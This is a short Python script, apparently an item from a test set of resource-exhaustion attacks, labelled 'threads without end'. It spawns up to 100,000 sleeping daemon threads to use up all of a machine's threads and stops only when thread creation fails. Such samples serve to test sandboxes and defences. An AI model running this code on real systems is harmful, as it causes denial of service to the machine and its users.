"""Attack: threads without end.
Wants: all threads of the machine.
Honest mark: 22
"""

# %% own
import threading, time

for _ in range(100000):
    try:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    except (RuntimeError, MemoryError):
        break
